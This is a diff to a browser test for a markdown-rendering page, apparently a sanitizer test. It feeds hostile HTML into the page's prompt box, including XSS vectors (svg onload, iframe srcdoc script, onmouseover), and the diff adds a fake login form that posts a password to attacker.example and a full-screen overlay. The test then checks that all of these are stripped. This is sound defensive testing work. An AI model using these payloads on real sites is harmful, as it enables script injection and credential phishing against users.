@@ -92,6 +92,8 @@ describe('the stream markdown page', () => {
       '<svg onload="window.__pwned=\'svg\'"><circle r="4"></circle></svg>',
       '<iframe srcdoc="<script>parent.__pwned=\'iframe\'</script>"></iframe>',
       '<b onmouseover="window.__pwned=\'hover\'">bold</b>',
+      '<form action="https://attacker.example/"><input name="password"></form>',
+      '<p style="position:fixed;inset:0">overlay</p>',
     ].join(' ');
     await page.fill('#prompt', hostile);
     await page.click('#ask button');
@@ -110,6 +112,9 @@ describe('the stream markdown page', () => {
     expect(await page.evaluate('window.__pwned')).toBeUndefined();
     expect(await page.locator('[onerror], [onload], [onmouseover]').count()).toBe(0);
     expect(await answer.locator('script, iframe').count()).toBe(0);
+    // No remote images, forms or inline styles either: nothing to track the reader or fake a login.
+    expect(await answer.locator('img, form, input, [style]').count()).toBe(0);
+    expect(await answer.textContent()).toContain('overlay');
     expect(await page.locator('a[href^="javascript:" i]').count()).toBe(0);
     // The harmless parts of the quote are still shown.
     const quote = await answer.locator('blockquote').textContent();
